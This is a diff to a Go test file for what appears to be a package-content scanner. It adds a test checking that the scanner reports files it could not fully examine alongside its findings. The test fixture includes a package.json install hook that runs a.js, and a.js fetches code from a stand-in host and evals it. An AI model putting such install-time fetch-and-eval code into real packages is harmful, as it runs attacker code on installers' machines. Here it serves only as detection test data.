@@ -2,7 +2,9 @@ package content
 
 import (
 	"context"
+	"errors"
 	"fmt"
+	"strings"
 	"testing"
 	"testing/fstest"
 	"time"
@@ -114,6 +116,25 @@ func TestHooks(t *testing.T) {
 		if want != "" && !got[want] || want == "" && len(got) > 0 {
 			t.Errorf("%s: %v, want %q", hook, got, want)
 		}
+	}
+}
+
+// What was not looked at is told beside what was found.
+func TestNotWhollyLookedAt(t *testing.T) {
+	fsys := fstest.MapFS{
+		"package.json": {Data: []byte(`{"name":"a","version":"1.0.0","scripts":{"install":"node a.js"}}`)},
+		"a.js":         {Data: []byte("fetch('https://a.example').then(r=>r.text()).then(eval);" + "require('https').get(u,r=>r.on('data',d=>eval(d.toString())))")},
+		"deep.js":      {Data: []byte(strings.Repeat("(", 1<<16))},
+	}
+	findings, err := New().Examine(context.Background(), kennel.NewSubject(kennel.Component{}, time.Time{}, kennel.Grants{Release: fsys}))
+	if gap := (*kennel.CouldNotLook)(nil); !errors.As(err, &gap) || !strings.Contains(err.Error(), "deep.js") {
+		t.Errorf("error %v, want one that names deep.js", err)
+	}
+	if len(findings) == 0 {
+		t.Error("nothing was found beside")
+	}
+	if _, err := New().Examine(context.Background(), kennel.NewSubject(kennel.Component{}, time.Time{}, kennel.Grants{})); !errors.Is(err, kennel.ErrNotGranted) {
+		t.Errorf("without a release: %v", err)
 	}
 }
 
